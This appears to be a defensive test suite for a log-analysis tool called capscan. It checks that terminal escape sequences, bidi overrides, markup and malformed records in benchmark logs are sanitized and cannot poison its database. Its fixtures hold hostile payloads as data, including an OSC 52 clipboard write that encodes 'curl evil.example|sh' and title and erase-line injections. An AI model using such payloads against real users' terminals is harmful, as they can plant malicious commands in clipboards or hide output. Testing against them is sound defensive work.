"""Hostile log text never steers capscan (issue 9: terminal output and poisoned rows).

Every string that came from a log reaches a terminal only cleaned of C0/C1
controls, escape sequences and bidi overrides, and is never read as markup;
a record with the wrong types is skipped and counted at the parser boundary;
a stored run that cannot be diagnosed is `unknown` with an internal-error
finding and never blocks the others; a zero rate never divides.
"""

from __future__ import annotations

import io
import json
import re
import sqlite3
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from analyzer.cli.runs import _write_runs as write_runs
from analyzer.ingest import ingest
from analyzer.output.report import console
from analyzer.output.run_report import run_lines
from analyzer.output.styled import plain_text, write_rich
from analyzer.parsers import Dispatcher
from analyzer.read.reader import open_input
from analyzer.rules.diagnose import diagnose_runs
from analyzer.safe_text import BIDI, clean, clean_deep, escape_json_text, is_clean, strip_unsafe_chars
from analyzer.store.db import open_db
from analyzer.store.queries import iter_runs, load_run
from tests.conftest import run_capscan

FIX = Path(__file__).resolve().parent / "fixtures"
EXAMPLES = Path(__file__).resolve().parent.parent / "examples"

ESC = "\x1b"
OSC52 = ESC + "]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=" + ESC + "\\"  # clipboard := 'curl evil.example|sh'
OSC0 = ESC + "]0;pwned\x07"                                         # window / pane title
ERASE = ESC + "[2K" + ESC + "[1A"                                  # erase the line, cursor up
DCS = ESC + "Pq#0;2;0;0;0" + ESC + "\\"
C1_CSI = "\x9b31m"
RLO = "\u202e"
ISOLATE = "\u2066"
PAYLOADS = (OSC52, OSC0, ERASE, DCS, C1_CSI, RLO, ISOLATE, "\r", "\x08", "\x07")
MARKUP = "[/] [link=https://evil.example]x[/link] [conceal]secret[/conceal] [bold red]:warning:"

_UNSAFE = re.compile(f"[\\x00-\\x08\\x0b-\\x1f\\x7f-\\x9f{BIDI}\\ud800-\\udfff]")


def assert_terminal_safe(data: bytes | str, what: str = "output") -> None:
    """No control (a tab, layout of piped tables, aside), escape or bidi character; no sequence body."""
    text = data.decode("utf-8", errors="strict") if isinstance(data, bytes) else data
    bad = _UNSAFE.search(text)
    assert bad is None, f"{what}: {bad.group(0)!r} at {bad.start()}: {text[max(0, bad.start() - 60):bad.start() + 40]!r}"
    # The bodies of the sequences go with them (a JSON line quoted as evidence shows them as
    # the harmless text "\u001b]52;...", as the log printed it).
    survived = re.search(r"(?<!\\u001b)\](?:52;|0;pwned)", text)
    assert survived is None, f"{what}: the body of an escape sequence survived: {text[survived.start() - 40:][:80]!r}"


def assert_no_traceback(proc, *codes: int) -> None:
    assert b"Traceback" not in proc.stderr, proc.stderr.decode(errors="replace")[-2000:]
    assert proc.returncode in (codes or (0,)), (proc.returncode, proc.stderr.decode(errors="replace")[-800:])


# ---------------------------------------------------------------------------
# the sanitizer
# ---------------------------------------------------------------------------


@pytest.mark.parametrize("raw, expected", [
    ("a" + OSC52 + "b", "ab"),
    ("a" + OSC0 + "b", "ab"),
    ("a" + ESC + "]8;;https://evil.example" + ESC + "\\link" + ESC + "]8;;" + ESC + "\\b", "alinkb"),
    ("a" + ERASE + "b", "ab"),
    ("a" + DCS + "b", "ab"),
    ("a" + ESC + "_apc" + ESC + "\\b", "ab"),
    ("a\x9d0;title\x9cb", "ab"),
    ("a" + C1_CSI + "b", "ab"),
    ("a" + ESC + "c" + "b", "ab"),  # RIS, full reset
    ("a" + ESC + "(Bb", "ab"),
    ("evil" + RLO + "gpj.exe", "evilgpj.exe"),
    ("x" + ISOLATE + "y\u2069", "xy"),
    ("tab\there", "tab here"),
    ("over\rwrite\x08!", "overwrite!"),
    ("lone \ud800 surrogate", "lone \ufffd surrogate"),
    ("unterminated " + ESC + "]52;c;AAAA", "unterminated "),
    ("Apple M1 Ultra (Virtual)", "Apple M1 Ultra (Virtual)"),
    ("ünïcödé ± 日本", "ünïcödé ± 日本"),
])
def test_clean_removes_sequences_controls_and_bidi(raw, expected):
    assert clean(raw) == expected
    assert is_clean(clean(raw))


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.characters(codec=None, exclude_categories=()), max_size=60)
       | st.lists(st.sampled_from(list(PAYLOADS) + ["[", "]", "/", "a", "\\", ";", "\n"]), max_size=20).map("".join))
def test_clean_is_total_safe_and_idempotent(text):
    out = clean(text)
    assert _UNSAFE.search(out) is None
    assert clean(out) == out
    kept = clean(text, keep_newlines=True)
    assert _UNSAFE.search(kept) is None and "\x0a" not in out
    width_kept = strip_unsafe_chars(text)
    assert not re.search(f"[\\x00-\\x09\\x0b-\\x1f\\x7f-\\x9f{BIDI}]", width_kept)


def test_json_output_keeps_the_text_escaped():
    dumped = escape_json_text(json.dumps({"name": "dev\x9b2K" + RLO + "\ud800" + ESC}, ensure_ascii=False))
    assert_terminal_safe(dumped)
    assert json.loads(dumped)["name"] == "dev\x9b2K" + RLO + "\ud800" + ESC


def test_clean_deep_reaches_keys_and_nested_values():
    assert clean_deep({"a" + ESC + "[1m": [("x" + OSC0, 3)], "n": None}) == {"a": [("x", 3)], "n": None}


# ---------------------------------------------------------------------------
# hostile logs through every command
# ---------------------------------------------------------------------------


def _metal_block(name: str) -> str:
    return ("ggml_metal_device_init: tensor API disabled for pre-M5 and pre-A19 devices\n"
            f"ggml_metal_device_init: GPU name:   MTL0 ({name})\n"
            "ggml_metal_device_init: GPU family: MTLGPUFamilyApple5  (1005)\n"
            "ggml_metal_device_init: simdgroup reduction   = false\n"
            "ggml_metal_device_init: simdgroup matrix mul. = false\n"
            "ggml_metal_device_init: has unified memory    = true\n")


def _bench_row(**over) -> str:
    row = {"build_commit": "ee3d1b54c", "build_number": 10167, "cpu_info": "Accelerate, Apple M1 Ultra (Virtual)",
           "gpu_info": "Apple Paravirtual device", "backends": "MTL,BLAS", "model_type": "llama 1B Q4_K - Medium",
           "n_prompt": 512, "n_gen": 0, "n_depth": 0, "avg_ts": 431.86, "stddev_ts": 2.04}
    row.update(over)
    return json.dumps(row)


def _probe_json(probe, device="Apple Paravirtual device") -> str:
    return json.dumps({"probe": probe, "version": 1, "device": device,
                       "supports_family": {"1005": True, "1007": False}, "has_unified_memory": True})


HOSTILE_LOGS = {
    # raw bytes in a log line (normalised before any parser sees them)
    "raw-escapes": "".join(_metal_block("Apple Paravirtual " + p + " device") for p in PAYLOADS[:3]),
    # escapes that only exist once a JSON string is decoded (the OSC 52 probe)
    "json-probe": _probe_json(OSC52 + "llama-bench" + ERASE) + "\n",
    "json-bench": _bench_row(gpu_info="Apple Paravirtual " + OSC0 + " device", cpu_info=RLO + "Apple M1 Ultra" + C1_CSI,
                             model_type="llama " + DCS + "1B") + "\n",
    "json-callback": json.dumps({"level": "info", "text": "ggml_metal_device_init: GPU name:   MTL0 (Apple "
                                 + OSC52 + "Paravirtual device)"}) + "\n",
    "markup": _metal_block("Apple " + MARKUP + " device"),
}


@pytest.fixture
def hostile_db(tmp_path) -> Path:
    db = tmp_path / "hostile.db"
    for name, text in HOSTILE_LOGS.items():
        path = tmp_path / f"{name}[draft].log"
        path.write_text(text, encoding="utf-8")
        proc = run_capscan("ingest", str(path), db=db)
        assert_no_traceback(proc)
        assert_terminal_safe(proc.stdout, f"ingest {name}")
        assert_terminal_safe(proc.stderr, f"ingest {name} (stderr)")
    return db


@pytest.mark.parametrize("name", sorted(HOSTILE_LOGS))
def test_pipe_report_is_terminal_safe(tmp_path, name):
    proc = run_capscan(input=HOSTILE_LOGS[name], db=tmp_path / "p.db")
    assert_no_traceback(proc)
    assert_terminal_safe(proc.stdout, "report")
    assert_terminal_safe(proc.stderr, "report (stderr)")
    if name == "markup":
        assert MARKUP.split(":warning:")[0] in proc.stdout.decode()  # shown as written, never read as markup


def test_every_command_is_terminal_safe(hostile_db):
    ids = [r["id"] for r in json.loads(run_capscan("runs", "--json", db=hostile_db, check=True).stdout)]
    assert len(ids) == 7  # raw-escapes holds three device blocks
    commands = [("runs",), ("diagnose", "--last"), ("compare", str(ids[0]), str(ids[-1]))]
    for rid in ids:
        commands += [("show", str(rid)), ("diagnose", "--run", str(rid)), ("remedy", "plan", "--run", str(rid))]
    for args in commands:
        proc = run_capscan(*args, db=hostile_db)
        assert_no_traceback(proc)
        assert_terminal_safe(proc.stdout, " ".join(args))
        assert_terminal_safe(proc.stderr, " ".join(args) + " (stderr)")
    shown = run_capscan("show", str(ids[0]), db=hostile_db, check=True).stdout.decode()
    assert "[/] [link=https://evil.example]" in shown and "[conceal]secret" in shown
    assert "markup[draft].log" in shown  # a file named guest[draft].log keeps its name


def test_remedy_plan_copy_paste_lines_are_clean(hostile_db):
    """The issue's attack: a probe whose "probe" field carries OSC 52 and an
    erase-line sequence became the program of the plan's `remedy run` line."""
    runs = json.loads(run_capscan("runs", "--json", db=hostile_db, check=True).stdout)
    probe = next(r for r in runs if r["source"].endswith("json-probe[draft].log"))
    assert probe["program"] == "llama-bench"  # stored cleaned: the parser boundary
    plan = run_capscan("remedy", "plan", "--run", str(probe["id"]), db=hostile_db)
    assert_no_traceback(plan)
    assert_terminal_safe(plan.stdout, "remedy plan")
    as_json = run_capscan("remedy", "plan", "--run", str(probe["id"]), "--json", db=hostile_db)
    assert_terminal_safe(as_json.stdout, "remedy plan --json")
    for step in json.loads(as_json.stdout).get("steps", []):
        assert all(is_clean(a) for a in step["argv"])


def test_json_output_is_valid_and_terminal_safe(hostile_db):
    for args in (("diagnose", "--last", "--json"), ("runs", "--json"), ("show", "1", "--json")):
        proc = run_capscan(*args, db=hostile_db)
        assert_no_traceback(proc)
        json.loads(proc.stdout)
        assert_terminal_safe(proc.stdout, " ".join(args))


# ---------------------------------------------------------------------------
# one bad row must not poison a database
# ---------------------------------------------------------------------------

BAD_VALUES = [5, 1.5, True, [1, 2], {"a": 1}]


def _one_field_per_line(obj: dict) -> str:
    return "  {\n" + ",\n".join(f"    {json.dumps(k)}: {json.dumps(v)}" for k, v in obj.items()) + "\n  }"


@pytest.mark.parametrize("field", ["cpu_info", "gpu_info", "model_type", "build_commit", "backends"])
def test_bench_rows_with_wrong_types_are_skipped_and_counted(tmp_path, field):
    good = _bench_row()
    bad = [_bench_row(**{field: v}) for v in BAD_VALUES]
    text = "\n".join([bad[0], good, *bad[1:]]) + "\n"
    for form in ("jsonl", "json"):
        path = tmp_path / f"rows.{form}"
        if form == "jsonl":
            path.write_text(text)
        else:  # llama-bench -o json: one field per line (values inline), parsed by the json module
            path.write_text("[\n" + ",\n".join(_one_field_per_line(json.loads(r)) for r in text.split("\n") if r)
                            + "\n]\n")
        db = tmp_path / f"{form}-{field}.db"
        proc = run_capscan("ingest", str(path), db=db)
        assert_no_traceback(proc)
        assert f"{len(BAD_VALUES)} record(s) skipped (wrong types" in proc.stderr.decode(), proc.stderr
        assert_every_run_loads_and_diagnoses(db, expect_runs=1)


RECORDS = [
    ("probe-number", _probe_json(5) + "\n"),
    ("probe-list", _probe_json(["x"]) + "\n"),
    ("probe-device-object", _probe_json("capscan-probe", device={"x": 1}) + "\n"),
    ("surrogate-jsonl", _bench_row(gpu_info="\ud800 device") + "\n"),
    ("surrogate-json-callback", '{"text": "ggml_metal_device_init: GPU name:   MTL0 (Apple \\ud800 device)"}\n'),
    ("bigint-jsonl", _bench_row(n_prompt=10 ** 30) + "\n"),
    ("bigint-u64", _bench_row(n_gen=2 ** 63 + 5, n_prompt=0) + "\n"),
    ("bigint-probe", json.dumps({"probe": "capscan-probe", "device": "Apple Paravirtual device",
                                 "supports_family": {str(10 ** 30): True, "1005": True},
                                 "recommended_max_working_set_size": 10 ** 400,
                                 "max_threadgroup_memory": 2 ** 70}) + "\n"),
    ("bigint-text", _metal_block("Apple Paravirtual device").replace("(1005)", "(" + "9" * 30 + ")")
     + "| model | size | params | backend | threads | test | t/s |\n"
       "| llama 1B Q4_K - Medium | 1 GiB | 1 B | MTL,BLAS | 8 | pp" + "9" * 30 + " | 4.0 ± 0.1 |\n"),
    ("deep-json-callback", '{"text": ' + "[" * 100_000 + "]" * 100_000 + "}\n"),
    ("deep-probe", '{"device": "x", "supports_family": ' + "[" * 100_000 + "]" * 100_000 + "}\n"),
    ("deep-bench-jsonl", '{"build_commit": "x", "n": ' + "[" * 100_000 + "]" * 100_000 + "}\n"),
    ("deep-bench-json", '"build_commit": "x",\n"n": ' + "[" * 100_000 + "]" * 100_000 + "\n}\n"),
    ("deep-server-timings", '{"timings": {"x": ' + "[" * 100_000 + "]" * 100_000 + "}}\n"),
]


@pytest.mark.parametrize("name, text", RECORDS, ids=[name for name, _ in RECORDS])
def test_hostile_records_never_poison_the_database(tmp_path, name, text):
    db = tmp_path / "db.db"
    good = EXAMPLES / "m1-ultra-guest-stock.log"
    path = tmp_path / f"{name}.log"
    path.write_text(good.read_text() + text + good.read_text(), encoding="utf-8", errors="surrogatepass")
    proc = run_capscan("ingest", str(path), db=db)
    assert_no_traceback(proc)
    assert_terminal_safe(proc.stderr)
    assert_every_run_loads_and_diagnoses(db)
    for args in (("runs",), ("show", "last"), ("diagnose", "--last"), ("remedy", "plan", "--run", "1")):
        shown = run_capscan(*args, db=db)
        assert_no_traceback(shown)
        assert_terminal_safe(shown.stdout, " ".join(args))


def assert_every_run_loads_and_diagnoses(db_path: Path, expect_runs: int | None = None) -> None:
    db = open_db(db_path)
    try:
        ids = [r[0] for r in db.conn.execute("SELECT id FROM runs ORDER BY id")]
        if expect_runs is not None:
            assert len(ids) == expect_runs
        runs = diagnose_runs(db, ids, refresh_peers=True)
        assert [r.id for r in runs] == ids
        for run in runs:
            assert load_run(db, run.id).load_error is None
            assert run.diagnosis.verdict != "unknown" or run.diagnosis.stored()["findings"] is not None
            assert all(f["rule"] != "internal-error" for f in run.diagnosis.stored()["findings"]), run.diagnosis
            lines = run_lines(run, max_evidence=200)
            out = io.StringIO()
            write_rich(lines, console(out))
            assert_terminal_safe(out.getvalue(), f"run {run.id}")
            assert plain_text(lines) == out.getvalue()
        out = io.StringIO()
        write_runs(out, iter_runs(db, limit=None))  # what `capscan runs` prints
        assert_terminal_safe(out.getvalue(), "runs table")
    finally:
        db.conn.close()


def _poison(db_path: Path, run_id: int, **facts) -> None:
    """What an older capscan stored: facts that no longer validate, raw escapes in stored text."""
    conn = sqlite3.connect(db_path)
    with conn:
        stored = json.loads(conn.execute("SELECT facts FROM runs WHERE id = ?", (run_id,)).fetchone()[0])
        stored.update(facts)
        conn.execute("UPDATE runs SET facts = ?, device_name = ?, program = ? WHERE id = ?",
                     (json.dumps(stored), "Apple " + OSC0 + "[/]", "llama" + OSC52, run_id))
        conn.execute("UPDATE evidence SET text = text || ? WHERE run_id = ?", (ERASE + MARKUP + RLO, run_id))
        conn.execute("UPDATE sources SET path = path || ? WHERE id = (SELECT source_id FROM runs WHERE id = ?)",
                     (OSC0 + "[red]", run_id))
    conn.close()


def test_a_poisoned_stored_run_is_unknown_and_blocks_nothing(tmp_path):
    db = tmp_path / "old.db"
    assert run_capscan("ingest", str(EXAMPLES / "m1-ultra-guest-stock.log"), db=db, check=True).stdout.strip() == b"1"
    _poison(db, 1, program=5, cpu_info=[1, 2], model="llama 1B Q4_K - Medium")
    # other runs of the same model are re-diagnosed on each ingest: this must keep working
    for log in ("m1-ultra-host.log", "m1-ultra-guest-shim.log"):
        proc = run_capscan("diagnose", str(EXAMPLES / log), "--json", db=db)
        assert_no_traceback(proc)
        assert json.loads(proc.stdout)["runs"][0]["verdict"] in ("healthy", "virtualization-overhead")
    for args in (("show", "1"), ("runs",), ("diagnose", "--run", "1"), ("remedy", "plan", "--run", "1"),
                 ("compare", "1", "2"), ("show", "1", "--json")):
        proc = run_capscan(*args, db=db)
        assert_no_traceback(proc)
        assert_terminal_safe(proc.stdout, " ".join(args))
    doc = json.loads(run_capscan("diagnose", "--run", "1", "--json", db=db, check=True).stdout)
    run = doc["runs"][0]
    assert run["verdict"] == "unknown" and not run["fixable"]
    assert run["findings"][0]["rule"] == "internal-error"
    assert "internal error" in run["findings"][0]["message"]


def test_a_zero_rate_beside_bare_metal_never_divides(tmp_path):
    db = tmp_path / "z.db"
    zero = tmp_path / "zero.log"
    zero.write_text(re.sub(r"\d+\.\d+ ± \d+\.\d+", "0.00 ± 0.00", (EXAMPLES / "m1-ultra-guest-shim.log").read_text()))
    run_capscan("ingest", str(EXAMPLES / "m1-ultra-host.log"), db=db, check=True)
    proc = run_capscan("diagnose", str(zero), "--json", db=db)
    assert_no_traceback(proc)
    assert json.loads(proc.stdout)["runs"][0]["verdict"] != "virtualization-overhead"
    for args in (("compare", "1", "2"), ("compare", "2", "1"), ("show", "2")):
        assert_no_traceback(run_capscan(*args, db=db))


# ---------------------------------------------------------------------------
# property: random hostile lines, in-process through the whole pipeline
# ---------------------------------------------------------------------------

TEMPLATES = [
    "ggml_metal_device_init: GPU name:   MTL0 ({x})",
    "ggml_metal_init: GPU name:   {x}",
    "ggml_metal_device_init: GPU family: MTLGPUFamilyApple5  (1005)",
    "ggml_metal_device_init: has unified memory    = true",
    "ggml_metal_device_init: simdgroup reduction   = false",
    "| model | size | params | backend | threads | test | t/s |",
    "| {x} | 1 GiB | 1 B | MTL,BLAS | 8 | pp512{x} | 4.0 ± 0.1 |",
    "[LumeMetalCapabilities] Enabled for {x} (appleFamilyMax=1009)",
    "probe=capscan-probe 1",
    "device={x}",
    "supports_family.1007={x}",
    "Chipset Model: {x}",
    "llama_perf_context_print:        eval time =     100.00 ms /    10 runs   (   10.00 ms per token,   {x} tokens per second)",
    "ggml_metal_encode_node: error: unsupported op '{x}'",
    "system_info: n_threads = 8 | Metal : {x} |",
]
FRAGMENTS = st.sampled_from(list(PAYLOADS) + [MARKUP, "\ud800", "9" * 25, "0.00", "-", "Apple M2 Max", ""])


@st.composite
def hostile_lines(draw):
    lines = []
    for _ in range(draw(st.integers(1, 12))):
        kind = draw(st.integers(0, 3))
        x = "".join(draw(st.lists(FRAGMENTS, min_size=1, max_size=3)))
        if kind == 0:
            lines.append(draw(st.sampled_from(TEMPLATES)).format(x=x))
        elif kind == 1:  # the same, as a JSON log callback: escapes only appear once decoded
            lines.append(json.dumps({"text": draw(st.sampled_from(TEMPLATES)).format(x=x)}))
        elif kind == 2:
            field = draw(st.sampled_from(["cpu_info", "gpu_info", "model_type", "build_commit", "backends"]))
            value = draw(st.one_of(st.just(x), st.integers(-2 ** 70, 2 ** 70), st.booleans(),
                                   st.lists(st.integers(), max_size=2), st.none()))
            lines.append(_bench_row(**{field: value, "n_gen": draw(st.sampled_from([0, 128, 2 ** 64 - 1]))}))
        else:
            lines.append(_probe_json(draw(st.one_of(st.just(x), st.integers(), st.none())), device=x))
    return "\n".join(lines) + "\n"


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=hostile_lines())
def test_property_hostile_lines_store_load_diagnose_and_print_safely(tmp_path_factory, text):
    path = tmp_path_factory.mktemp("hyp") / "hostile.log"
    path.write_bytes(text.encode("utf-8", errors="surrogatepass"))
    db_path = path.with_name("h.db")
    db = open_db(db_path)
    source = open_input(str(path))
    try:
        result = ingest(db, source, force=True)
    finally:
        source.close()
    assert result.rejected >= 0
    db.conn.close()
    assert_every_run_loads_and_diagnoses(db_path)


def test_dispatcher_counts_rejected_records():
    d = Dispatcher()
    lines = [_bench_row(cpu_info=5), _bench_row(), _probe_json(7), '{"text": ' + "[" * 50_000 + "]" * 50_000 + "}"]
    events = [ev for i, line in enumerate(lines, 1) for ev in d.feed(i, line.encode())]
    assert [e.kind for e in events] == ["bench.row"]
    assert d.rejected == 2  # the JSON callback nested too deep is simply not a callback
